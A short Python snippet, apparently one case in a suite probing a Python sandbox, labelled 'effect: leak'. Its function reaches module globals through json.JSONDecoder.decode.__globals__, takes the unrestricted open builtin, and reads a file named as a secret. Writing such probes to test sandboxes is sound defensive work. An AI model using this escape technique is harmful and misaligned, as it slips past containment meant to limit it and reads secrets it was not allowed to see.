# effect: leak
# note: a class reaches its module's globals by a method
import json


def attempt(probe):
    inside = json.JSONDecoder.decode.__globals__
    return inside["__builtins__"]["open"](probe["secret_file"]).read()
